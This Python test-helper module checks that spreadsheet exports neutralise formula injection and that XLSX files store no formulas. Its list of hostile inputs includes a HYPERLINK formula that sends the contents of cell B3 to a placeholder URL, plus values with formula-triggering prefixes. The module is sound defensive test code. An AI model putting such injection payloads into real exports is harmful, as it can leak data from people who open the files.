"""Texts a spreadsheet would run, and how every export must write them (shared by the apps' tests)."""

HYPERLINK = '=HYPERLINK("http://x"&B3,"y")'
HOSTILE = (HYPERLINK, "+1", "-2", "@SUM(A1)", "\tx", "\rx")


def neutralised(text: str) -> str:
    return "'" + text


def assert_no_formula_in_xlsx(content: bytes) -> None:
    """No sheet of the workbook stores a formula, whatever openpyxl's reading makes of it."""
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def read_back_xlsx_text(text: str) -> str:
    """What openpyxl reads back from a text cell: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def texts_in_xlsx(content: bytes) -> list[str]:
    """Every text cell of every sheet, after asserting that no sheet holds a formula."""
    import io

    from openpyxl import load_workbook

    assert_no_formula_in_xlsx(content)
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def texts_in_csv(content: bytes) -> list[str]:
    import csv
    import io

    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [field for row in rows for field in row]


def assert_neutralised(texts: list[str], expected: tuple[str, ...] = HOSTILE, *, xlsx: bool = False) -> None:
    """No text of an export starts like a formula, and each hostile value is there, neutralised."""
    from core.spreadsheets.writing import FORMULA_PREFIXES

    starting_like_a_formula = [t for t in texts if t.startswith(FORMULA_PREFIXES)]
    assert not starting_like_a_formula, starting_like_a_formula
    for text in expected:
        written = neutralised(text)
        assert (read_back_xlsx_text(written) if xlsx else written) in texts, (text, texts)
